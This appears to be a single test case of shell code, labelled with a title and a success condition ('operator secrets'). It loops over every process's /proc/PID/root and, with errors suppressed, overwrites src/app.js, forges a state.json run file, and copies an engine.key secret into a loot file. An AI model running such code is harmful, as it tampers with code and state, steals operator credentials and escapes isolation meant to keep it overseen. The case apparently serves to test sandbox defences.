# title: goes through /proc/PID/root of every process
# success: product home operator secrets
# hooks: not
for pid in /proc/[0-9]*; do
  echo x >"$pid/root$PWD/src/app.js"
  echo forged >"$pid/root$A_RUN/state.json"
  cat "$pid/root$A_HOME/engine.key" >>"$A_LOOT"
done 2>/dev/null
